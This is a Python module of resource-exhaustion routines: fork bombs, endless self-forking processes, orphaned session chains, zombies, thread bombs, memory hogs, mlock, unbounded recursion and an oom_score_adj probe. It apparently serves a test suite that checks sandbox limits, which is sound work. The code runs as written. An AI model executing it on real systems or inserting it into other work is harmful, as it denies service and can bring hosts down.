"""Attacks that use up processes, threads and memory.

They sleep to hold what they took until they are ended; none waits for something to happen.
"""

from __future__ import annotations

import ctypes
import errno
import mmap
import os
import sys
import time
from typing import Any

from .trying import attempt, libc


def fork_bomb(limit: int) -> dict[str, Any]:
    started, why = 0, ""
    while started < limit:
        try:
            pid = os.fork()
        except OSError as error:
            why = errno.errorcode[error.errno or 0]
            break
        if pid == 0:
            time.sleep(5)
            os._exit(0)
        started += 1
    return {"started": started, "why": why}


def fork_everywhere(token: str) -> None:
    """Every process forks for ever, each under a name that can be looked for."""
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", _FORKS, token])
    time.sleep(60)


_FORKS = """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
"""


def run_on(token: str) -> None:
    """A process that is a new one all the time: it forks, the parent ends, the child forks."""
    while True:
        if os.fork():
            os._exit(0)


def sessions_bomb(limit: int) -> dict[str, Any]:
    """Each in a session of its own, its parent gone: nobody's group or descendant."""
    started = 0
    while started < limit:
        try:
            pid = os.fork()
        except OSError as error:
            return {"started": started, "why": errno.errorcode[error.errno or 0]}
        if pid == 0:
            os.setsid()
            try:
                if os.fork() == 0:
                    time.sleep(5)
            except OSError as error:
                os._exit(error.errno or 0)
            os._exit(0)
        if code := os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]):
            return {"started": started, "why": errno.errorcode[code]}
        started += 1
    return {"started": started, "why": ""}


def thread_bomb(limit: int) -> dict[str, Any]:
    import threading

    started, why = 0, ""
    while started < limit:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            why = "EAGAIN"
            break
        started += 1
    return {"started": started, "why": why}


def threads_of_processes(processes: int, threads: int) -> dict[str, Any]:
    """Threads count with the processes: many of each."""
    read, write = os.pipe()
    for _ in range(processes):
        if os.fork() == 0:
            os.write(write, thread_bomb(threads)["started"].to_bytes(4, "big"))
            time.sleep(5)
            os._exit(0)
    counts = [int.from_bytes(os.read(read, 4), "big") for _ in range(processes)]
    return {"started": sum(counts), "why": "EAGAIN" if min(counts) < threads else ""}


def zombies(limit: int) -> dict[str, Any]:
    """Children that ended and are not waited for hold their numbers."""
    started, why = 0, ""
    while started < limit:
        try:
            pid = os.fork()
        except OSError as error:
            why = errno.errorcode[error.errno or 0]
            break
        if pid == 0:
            os._exit(0)
        started += 1
    return {"started": started, "why": why}


def take_memory(mebibytes: int) -> int:
    held = []
    for _ in range(mebibytes):
        held.append(b"\1" * (1 << 20))
        time.sleep(0.0005)
    time.sleep(1)
    return len(held)


def take_memory_together(children: int, mebibytes: int) -> None:
    for _ in range(children):
        if os.fork() == 0:
            take_memory(mebibytes)
    time.sleep(1)


def take_memory_in_orphans(children: int, mebibytes: int) -> None:
    """In processes that are nobody's descendants but the first process's."""
    for _ in range(children):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                take_memory(mebibytes)
            os._exit(0)
    time.sleep(1)


def take_shared_memory(mebibytes: int) -> None:
    memory = mmap.mmap(-1, mebibytes << 20)
    for page in range(0, mebibytes << 20, 4096):
        memory[page] = 1
    time.sleep(1)


def take_private_copies(children: int, mebibytes: int) -> None:
    """One block, copied page by page in each child: copy on write."""
    block = bytearray(mebibytes << 20)
    for _ in range(children):
        if os.fork() == 0:
            for page in range(0, len(block), 4096):
                block[page] = 1
            time.sleep(1)
    time.sleep(1)


def take_by_threads(threads: int, mebibytes: int) -> None:
    import threading

    for _ in range(threads):
        threading.Thread(target=take_memory, args=(mebibytes,), daemon=True).start()
    time.sleep(1)


def take_address_space() -> str:
    return "x" * (1 << 40)


def recurse() -> int:
    """Without end, and without Python's own limit."""
    sys.setrecursionlimit(1 << 30)

    def deeper(at: int) -> int:
        return max([at], key=deeper)  # through C, where each step takes of the real stack

    return deeper(0)


def lock_memory() -> str:
    """Pages that the kernel may not give to others."""
    memory = mmap.mmap(-1, 64 << 20)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return libc("mlock", ctypes.c_void_p(address), ctypes.c_size_t(64 << 20))


def less_likely_killed() -> str:
    """Have the kernel kill others first when memory runs out."""
    return attempt(lambda: os.close(os.open("/proc/self/oom_score_adj", os.O_WRONLY)))


def big_number() -> int:
    """A power that takes all the memory before it is there: one step of Python's."""
    return len(str(1 << (1 << 36)))
